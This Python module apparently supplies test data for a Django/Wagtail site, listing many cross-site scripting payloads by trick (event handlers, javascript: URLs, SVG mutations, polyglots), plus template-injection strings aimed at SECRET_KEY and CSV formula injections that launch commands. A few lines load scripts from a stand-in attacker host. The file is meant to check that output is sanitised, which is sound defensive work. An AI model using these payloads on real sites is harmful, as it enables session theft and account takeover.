"""A corpus of cross-site scripting payloads, grouped by trick. Every string must come out of the site inert.

Sources of inspiration: the OWASP XSS filter evasion cheat sheet, PortSwigger's XSS cheat sheet, the DOMPurify
mutation-XSS test cases and the classic polyglots. No payload contains a NUL character: PostgreSQL refuses them in
text, and the forms refuse them before (see NUL_PAYLOADS for the query strings that must still not crash).
"""

SCRIPT_TAGS = [
    "<script>alert(1)</script>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    '<script src="https://evil.example/x.js"></script>',
    '<script src="data:text/javascript,alert(1)"></script>',
    "<script/xss>alert(1)</script>",
    "<script >alert(1)</script >",
    "<<script>alert(1)//<</script>",
    "<script>alert(String.fromCharCode(88,83,83))</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '<script type="module">import("//evil.example/x.js")</script>',
    '<script nonce="devine">alert(1)</script>',
    "</script><script>alert(1)</script>",
    "<!--<script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<script>alert(1)<!--",
    "<template><script>alert(1)</script></template>",
]

ENCODED_TEXT = [
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "%253Cscript%253Ealert(1)%253C%252Fscript%253E",
]

EVENT_HANDLERS = [
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=x OnErRoR=alert(1)>",
    '<img src="x" onerror="alert(1)">',
    '<img/src="x"/onerror=alert(1)>',
    "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>",
    "<img src=`x` onerror=alert(1)>",
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<body onload=alert(1)>",
    '<div onmouseover="alert(1)">survol</div>',
    '<a onclick="alert(1)">clic</a>',
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)></select>",
    "<textarea autofocus onfocus=alert(1)></textarea>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>défile</marquee>",
    "<iframe onload=alert(1)></iframe>",
    "<form onsubmit=alert(1)><button>Envoyer</button></form>",
    "<button onclick=alert(1)>Bouton</button>",
    "<p onpointerenter=alert(1)>texte</p>",
    "<style onload=alert(1)></style>",
    "<xss id=x tabindex=1 onfocusin=alert(1)></xss>",
    "<frameset onload=alert(1)>",
    "<keygen autofocus onfocus=alert(1)>",
    "<body/onload=alert(1)>",
]

URLS = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "  javascript:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "java\rscript:alert(1)",
    "\x01javascript:alert(1)",
    "\x0bjavascript:alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A;avascript:alert(1)",
    "&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)",
    "javascript&colon;alert(1)",
    "javascript&#58;alert(1)",
    "javascript://%0Aalert(1)",
    "javascript:/*--></title></style></textarea></script><svg/onload=alert(1)>",
    "vbscript:msgbox(1)",
    "VBSCRIPT:msgbox(1)",
    "livescript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "DATA:text/html,<script>alert(1)</script>",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "//evil.example/",
    "/\\evil.example/",
    "\\\\evil.example\\",
    '/"><script>alert(1)</script>',
    'https://evil.example/"><script>alert(1)</script>',
    'http://x.example/" onmouseover="alert(1)',
]

URL_ATTRIBUTES = [
    '<a href="javascript:alert(1)">clic</a>',
    '<a href="JaVaScRiPt:alert(1)">clic</a>',
    '<a href=" &#14; javascript:alert(1)">clic</a>',
    '<a href="jav&#x09;ascript:alert(1)">clic</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">clic</a>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<iframe srcdoc="&lt;img src=x onerror=alert(1)&gt;"></iframe>',
    '<embed src="javascript:alert(1)">',
    '<object data="javascript:alert(1)"></object>',
    '<form action="javascript:alert(1)"><input type=submit></form>',
    '<button formaction="javascript:alert(1)">Envoyer</button>',
    '<base href="javascript:alert(1)//">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<link rel=stylesheet href="javascript:alert(1)">',
    '<img src="javascript:alert(1)">',
    '<img srcset="javascript:alert(1) 1x">',
    "<video poster=javascript:alert(1)>",
    "<input type=image src=javascript:alert(1)>",
    "<isindex action=javascript:alert(1) type=image>",
    '<applet code="javascript:alert(1)"></applet>',
    '<portal src="javascript:alert(1)"></portal>',
]

SVG_AND_MATH = [
    "<svg><script>alert(1)</script></svg>",
    '<svg><script href="data:,alert(1)"/></svg>',
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">clic</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<svg><a><set attributeName="href" to="javascript:alert(1)"/><text y="20">clic</text></a></svg>',
    '<svg><use href="data:image/svg+xml,&lt;svg id=x&gt;&lt;image href=1 onerror=alert(1)/&gt;&lt;/svg&gt;#x"/>',
    '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>',
    "<svg><style>@import'javascript:alert(1)'</style></svg>",
    '<math><mi xlink:href="javascript:alert(1)">clic</mi></math>',
    '<math href="javascript:alert(1)">clic</math>',
    '<math><maction actiontype="statusline#" xlink:href="javascript:alert(1)">clic</maction></math>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
]

STYLES = [
    '<style>body{background:url("javascript:alert(1)")}</style>',
    '<div style="background-image:url(javascript:alert(1))">fond</div>',
    '<div style="width:expression(alert(1))">large</div>',
    '<style>@import "//evil.example/x.css";</style>',
    '<div style="behavior:url(x.htc)">comportement</div>',
    '<div style="-moz-binding:url(//evil.example/x.xml#xss)">liaison</div>',
    "</style><script>alert(1)</script>",
]

TEMPLATE_INJECTION = [
    "{{ 7*7 }}",
    "{% debug %}",
    "{% load static %}{% get_static_prefix %}",
    "{{ request.user.password }}",
    "{{ settings.SECRET_KEY }}",
    '{% include "base.html" %}',
    "{{ '<script>alert(1)</script>'|safe }}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "[[ 7*7 ]]",
    "{{constructor.constructor('alert(1)')()}}",
]

BREAKOUTS = [
    '"><img src=x onerror=alert(1)>',
    "'><img src=x onerror=alert(1)>",
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    '" autofocus onfocus="alert(1)',
    '"/><svg/onload=alert(1)>',
    "`><img src=x onerror=alert(1)>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</option></select><img src=x onerror=alert(1)>",
    "</noscript><img src=x onerror=alert(1)>",
    "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "</script><img src=x onerror=alert(1)>",
    "</xmp><script>alert(1)</script>",
    "</iframe><script>alert(1)</script>",
    "</dd></dl><script>alert(1)</script>",
    '"};alert(1);//',
    '\\";alert(1);//',
    "'-alert(1)-'",
    '<img src="x',
    '<a href="javascript:alert(1)"',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
]

UNICODE = [
    "＜script＞alert(1)＜/script＞",
    "\u202e<img src=x onerror=alert(1)>",
    "<scr\u200bipt>alert(1)</scr\u200bipt>",
    "\ufeff<script>alert(1)</script>",
    "<ſcript>alert(1)</ſcript>",
    "<ſvg onload=alert(1)>",
    "＂＞＜img src=x onerror=alert(1)＞",
    "\u2028<script>alert(1)</script>\u2029",
    "%u003cscript%u003ealert(1)%u003c/script%u003e",
    "🙂<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)\u00a0>",
    "Ｊａｖａｓｃｒｉｐｔ：alert(1)",
]

# Not XSS, but the same data leaves the site in CSV exports: a spreadsheet must not read these as formulas.
SPREADSHEET = [
    '=HYPERLINK("javascript:alert(1)","clic")',
    "=cmd|' /C calc'!A0",
    "+SUM(1,2)",
    "@SUM(1,1)",
    "-2+3+cmd|' /C calc'!A0",
]

POLYGLOTS = [
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/"
    "</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>\\x3e",
    "'\"--></style></script><svg onload=alert(1)>",
    "\"'><img src=x onerror=alert(1)>{{7*7}}</textarea></title>",
]

PAYLOADS = [
    *SCRIPT_TAGS,
    *ENCODED_TEXT,
    *EVENT_HANDLERS,
    *URLS,
    *URL_ATTRIBUTES,
    *SVG_AND_MATH,
    *STYLES,
    *TEMPLATE_INJECTION,
    *BREAKOUTS,
    *UNICODE,
    *SPREADSHEET,
    *POLYGLOTS,
]

# URLs (and things a person might paste as one) for href/src-like fields.
URL_PAYLOADS = [*URLS, "JaVaScRiPt:alert(1)//https://exemple.fr", "https://exemple.fr@evil.example/x"]

# Only for query strings and validators: never stored.
NUL_PAYLOADS = ["<script\x00>alert(1)</script>", "java\x00script:alert(1)", "\x00"]

# Short enough for every text field (the smallest limits are around 80 characters); used where each render is
# expensive (Wagtail admin posts, whole pages). Together they hit every context: text, attribute, URL, template.
REPRESENTATIVE = [
    '"><img src=x onerror=alert(1)>',
    '=HYPERLINK("javascript:alert(1)")',
    "<script>alert(1)</script>",
    "</textarea></title><svg/onload=alert(1)>",
    "' onmouseover='alert(1)",
    "javascript:alert(1)",
    "{{ 7*7 }}{% debug %}",
    '<a href="jav&#x09;ascript:alert(1)">clic</a>',
    '<iframe srcdoc="<script>alert(1)</script>">',
    "</script><math><mi xlink:href=javascript:alert(1)>x",
    "\u202e＜script＞<ſvg onload=alert(1)>",
]


def fitted(payload, max_length):
    """The payload cut to a field's maximum length (a cut payload is still a payload)."""
    return payload[:max_length]
